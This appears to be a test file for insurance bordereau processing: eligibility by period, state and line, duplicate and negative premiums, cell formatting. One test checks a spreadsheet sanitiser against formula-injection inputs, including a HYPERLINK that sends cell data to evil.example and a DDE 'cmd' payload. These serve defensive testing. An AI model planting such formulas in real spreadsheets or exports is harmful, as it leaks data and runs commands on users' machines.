import { bdxCellKinds, bdxEligibilityOf, bdxImportColumns, bdxImportRow, checkBdxRowsEligible, formatBdxCell, safeSheetCell, safeSheetRows } from './index';

const RULE = {
  period: { from: '2026-12-01', to: '2026-12-31' },
  states: [
    { state_code: 'TX', state_name: 'Texas' },
    { state_code: 'GA', state_name: 'Georgia' },
  ],
  lobNames: ['Commercial Auto', 'Trucking'],
};
const COLUMNS = ['Policy Number', 'Effective Date', 'State', 'LOB', 'Premium'];

describe('bordereau period and eligibility', () => {
  it('makes a file\'s rule from its period and line: the month\'s days (a leap February too), the states offered, the line\'s names', () => {
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto', sublob: 'Trucking' })).toEqual(RULE);
    expect(bdxEligibilityOf('022028', [], { category_name: 'Homeowners', sublob: null })).toEqual({
      period: { from: '2028-02-01', to: '2028-02-29' },
      states: [],
      lobNames: ['Homeowners'],
    });
  });

  it('lists rows outside the period, or of a state or line not offered, by row number, and leaves their premiums out', () => {
    const check = checkBdxRowsEligible(
      [
        ['P-1', '2026-12-05', 'TX', 'Commercial Auto', '1250.00'],
        ['P-2', '2022-12-05', 'tx', 'commercial auto', '500.00'],
        ['P-3', '12/31/2026', 'Florida', 'Trucking', '100.00'],
        ['P-4', '2026-12-01', 'Georgia', 'Homeowners', '75.50'],
        ['P-5', '', '', '', '20.00'],
      ],
      COLUMNS,
      RULE,
    );
    expect(check.rowCount).toBe(5);
    expect(check.validRowCount).toBe(2);
    expect(check.computedCents).toBe(127000);
    expect(check.problemCount).toBe(3);
    expect(check.problems).toEqual([
      { row: 2, reason: 'Effective Date 12-05-2022 is outside the period 12/2026' },
      { row: 3, reason: "State 'Florida' is not a state of this line of business" },
      { row: 4, reason: "Line of business 'Homeowners' is not this file's line" },
    ]);
  });

  it('keeps the row checks of bdx-rows and passes any state when the line lists none', () => {
    const check = checkBdxRowsEligible([['', '2026-12-02', 'ZZ', '', 'abc']], COLUMNS, { ...RULE, states: [] });
    expect(check.problems).toEqual([{ row: 1, reason: "Policy Number is missing; Premium 'abc' is not an amount" }]);
  });
});

describe('a carrier\'s file, imported into the book: each policy once, no negative premium (importedIntoBook)', () => {
  const HEADER = ['Policy Number', 'Insured Name', 'Effective Date', 'State', 'Premium'];
  const rows = [
    ['P-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
    ['p-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-4', 'Cy Young', '2026-12-40', 'TX', '50.00'],
    ['P-4', 'Cy Young', '2026-12-04', 'TX', '50.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
  ];

  it('sets the rule for a carrier\'s file only', () => {
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' }, { importedIntoBook: true }).importedIntoBook).toBe(true);
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' })).not.toHaveProperty('importedIntoBook');
  });

  it('lists a sound row of the same policy as an earlier sound row, naming that row, and leaves its premium out', () => {
    const check = checkBdxRowsEligible(rows, HEADER, { ...RULE, importedIntoBook: true });
    expect(check.problems).toEqual([
      { row: 3, reason: 'Same policy as row 1' },
      { row: 4, reason: "Effective Date '2026-12-40' is not a date" },
      { row: 6, reason: 'Same policy as row 2' },
    ]);
    expect(check.validRowCount).toBe(3);
    expect(check.computedCents).toBe(35_000);
  });

  it('leaves repeated policies alone in a file the client makes (a row per transaction)', () => {
    expect(checkBdxRowsEligible(rows, HEADER, RULE).problems).toEqual([{ row: 4, reason: "Effective Date '2026-12-40' is not a date" }]);
  });

  const signed = [
    ['P-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '-50'],
    ['P-3', 'Cy Young', '2026-12-03', 'TX', '(25.00)'],
  ];

  it('lists a negative premium as the import refuses it, and leaves it out of the computed total', () => {
    const check = checkBdxRowsEligible(signed, HEADER, { ...RULE, importedIntoBook: true });
    const imported = signed.map((cells) => bdxImportRow(cells, bdxImportColumns(HEADER)));
    expect(imported.map((row) => (row.ok ? [] : row.reasons))).toEqual([[], ["Premium '-50' is negative"], ["Premium '(25.00)' is negative"]]);
    expect(check.problems).toEqual([
      { row: 2, reason: "Premium '-50' is negative" },
      { row: 3, reason: "Premium '(25.00)' is negative" },
    ]);
    expect([check.problemCount, check.validRowCount, check.computedCents]).toEqual([2, 1, 10_000]);
  });

  it('keeps a negative premium in a file the client makes (a cancellation\'s return premium)', () => {
    const check = checkBdxRowsEligible(signed, HEADER, RULE);
    expect([check.problemCount, check.validRowCount, check.computedCents]).toEqual([0, 3, 2_500]);
  });

  it('words a state the line does not offer as the import does', () => {
    const cells = ['P-9', 'Di Lane', '2026-12-09', 'FL', '10.00'];
    expect(checkBdxRowsEligible([cells], HEADER, { ...RULE, importedIntoBook: true }).problems).toEqual([
      { row: 1, reason: "State 'FL' is not a state of this line of business" },
    ]);
  });
});

describe('spreadsheet cells handed on', () => {
  it('quotes cells a spreadsheet would run as formulas; numbers stay numbers', () => {
    expect(safeSheetCell('=HYPERLINK("http://evil.example/?d="&C3,"Click me")')).toBe('\'=HYPERLINK("http://evil.example/?d="&C3,"Click me")');
    expect(safeSheetCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(safeSheetCell('-2+3')).toBe("'-2+3");
    expect(safeSheetCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(safeSheetCell('\tx')).toBe("'\tx");
    expect(safeSheetCell('\rx')).toBe("'\rx");
    expect(safeSheetCell('-80.00')).toBe('-80.00');
    expect(safeSheetCell(-80)).toBe(-80);
    expect(safeSheetCell('Acme = Roofing')).toBe('Acme = Roofing');
    expect(safeSheetRows([['=1', 2, null]])).toEqual([["'=1", 2, null]]);
  });
});

describe('mapped rows shown', () => {
  it('shows premiums as $1,250.00 and dates as MM-DD-YYYY; other cells as written', () => {
    const kinds = bdxCellKinds(['Policy Number', 'Effective Date', 'Premium', 'Expiry Date', 'Insured']);
    expect(kinds).toEqual(['text', 'date', 'money', 'date', 'text']);
    expect(formatBdxCell('money', '1250')).toBe('$1,250.00');
    expect(formatBdxCell('money', '$2,000.5')).toBe('$2,000.50');
    expect(formatBdxCell('money', '(80.00)')).toBe('-$80.00');
    expect(formatBdxCell('money', 'n/a')).toBe('n/a');
    expect(formatBdxCell('date', '2026-03-01')).toBe('03-01-2026');
    expect(formatBdxCell('date', '3/9/2026')).toBe('03-09-2026');
    expect(formatBdxCell('date', 'soon')).toBe('soon');
    expect(formatBdxCell('text', '0042')).toBe('0042');
  });
});
